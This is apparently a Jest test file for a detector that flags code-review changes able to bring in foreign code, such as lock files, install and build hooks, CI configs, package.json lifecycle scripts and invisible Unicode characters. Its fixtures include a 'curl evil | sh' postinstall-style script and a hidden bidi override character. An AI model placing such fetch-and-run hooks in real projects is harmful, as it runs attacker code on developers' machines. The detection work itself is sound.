import { describe, expect, test } from '@jest/globals'
import { sensitiveChanges } from '../src/domain/sensitive-changes.js'
import { reviewBrief } from '../src/team/briefs.js'

const flagged = (path: string, before: unknown, after: unknown): string[] => {
  const text = (value: unknown): string | null =>
    value === null || typeof value === 'string' ? value : JSON.stringify(value)
  return sensitiveChanges([{ path, before: text(before), after: text(after) }]).map(({ what }) => what)
}

describe('A change through which foreign code can come in is flagged', () => {
  test.each([
    'package-lock.json',
    'web/yarn.lock',
    'Cargo.lock',
    'api/Gemfile.lock',
    'go.sum',
    'uv.lock',
    'infra/.terraform.lock.hcl',
  ])('%s is a lock file', path => expect(flagged(path, 'a', 'b')).toEqual(['lock file']))

  test.each([
    ['setup.py', 'runs when the package is installed'],
    ['crates/x/build.rs', 'runs when the crate is built'],
    ['Gemfile', 'runs when gems are installed'],
    ['web/.npmrc', 'says where packages come from'],
    ['.cargo/config.toml', 'says where packages come from'],
    ['gradle/wrapper/gradle-wrapper.jar', 'is what the build downloads and runs first'],
    ['.husky/pre-commit', 'runs as a git hook'],
    ['.vscode/tasks.json', 'runs when somebody opens the folder'],
    ['.gitlab-ci.yml', 'runs in CI'],
  ])('%s %s', (path, what) => {
    expect(flagged(path, 'a', 'b')).toEqual([what])
    expect(flagged(path, null, 'b')).toEqual([what])
    expect(flagged(path, 'a', null)).toEqual([what])
  })

  test.each(['src/setup.py.md', 'lib/build.rs.txt', 'docs/Gemfile-and-friends.md', 'src/lock.ts', 'constructor'])(
    '%s is a file as any other',
    path => expect(flagged(path, 'a', 'b')).toEqual([]),
  )
})

describe('package.json', () => {
  const test1 = { scripts: { test: 'jest' } }

  test('counts where a lifecycle script comes, goes or changes, however its name is spelled', () => {
    for (const name of ['preinstall', 'install', 'postinstall', 'prepare', 'prebuild', 'posttest']) {
      const evil = { scripts: { test: 'jest', [name]: 'curl evil | sh' } }
      expect([name, flagged('package.json', test1, evil)]).toEqual([name, [expect.stringContaining('lifecycle')]])
      expect(flagged('package.json', evil, test1)).toHaveLength(1)
      expect(flagged('package.json', null, evil)).toHaveLength(1)
      expect(flagged('package.json', evil, { scripts: { ...evil.scripts, [name]: 'true' } })).toHaveLength(1)
    }
    expect(flagged('a/package.json', test1, '{"scripts":{"test":"jest","p\\u006fstinstall":"x"}}')).toHaveLength(1)
    expect(flagged('package.json', test1, '{"scripts": {"postinstall": "x"}, ]')).toHaveLength(1)
    expect(flagged('package.json', test1, { ...test1, trustedDependencies: ['evil'] })).toHaveLength(1)
  })

  test('does not count where only other scripts, dependencies or the form changed', () => {
    expect(flagged('package.json', test1, { scripts: { test: 'vitest', build: 'tsc' } })).toEqual([])
    expect(flagged('package.json', { ...test1, version: '1' }, { version: '2', ...test1 })).toEqual([])
    expect(flagged('package.json', null, { dependencies: { express: '5' }, scripts: {} })).toEqual([])
    const two = { scripts: { prepare: 'a', postinstall: 'b' } }
    expect(
      flagged('package.json', two, JSON.stringify({ scripts: { postinstall: 'b', prepare: 'a' } }, null, 4)),
    ).toEqual([])
  })
})

test('composer.json counts for its scripts and plugins, pyproject.toml for its build system', () => {
  expect(flagged('composer.json', { require: {} }, { require: { a: '1' } })).toEqual([])
  expect(flagged('composer.json', {}, { scripts: { 'post-install-cmd': 'x' } })).toHaveLength(1)
  expect(flagged('composer.json', {}, { config: { 'allow-plugins': true } })).toHaveLength(1)
  const build = '[build-system]\nrequires = ["setuptools"]\n'
  expect(flagged('pyproject.toml', build, `${build}[project]\nname = "x"\n`)).toEqual([])
  expect(flagged('pyproject.toml', build, '[build-system]\nrequires = ["evil"]\n')).toHaveLength(1)
  expect(flagged('pyproject.toml', build, `${build}[tool.hatch.build.hooks.custom]\npath = "x.py"\n`)).toHaveLength(1)
})

test.each([
  ['a = 1\n', 'a = 1\n// \u202E b\n', ['line 2 holds characters that don’t show']],
  [null, 'a\u200B\n\nb\u{E0041}\n', ['2 lines hold characters that don’t show, the first of them line 1']],
  ['a\u200B\nb\n', 'b\na\u200B\n', []],
  [null, '\uFEFFusing System;\r\n// 👩‍💻 می‌خواهم\r\n', []],
])('what doesn’t show counts where it is new: %j → %j', (before, after, expected) => {
  expect(flagged('src/a.ts', before, after)).toEqual(expected)
})

test('the reviewer is told of each, one line a file', () => {
  const sources = { issue: { number: 1, title: 'x', body: '' }, files: [], instructions: [], plan: '', tasks: [] }
  const brief = (sensitive: { path: string; what: string }[]): string =>
    reviewBrief({ ...sources, reports: [], focus: ['All of it'], areas: [], changed: [], sensitive, diff: '' })
  expect(brief([{ path: 'a/yarn.lock', what: 'lock file' }])).toMatch(
    /# What can bring in foreign code\n.*\n<changes>\n- a\/yarn\.lock: lock file\n<\/changes>\n/,
  )
  expect(brief([])).not.toContain('foreign code')
})
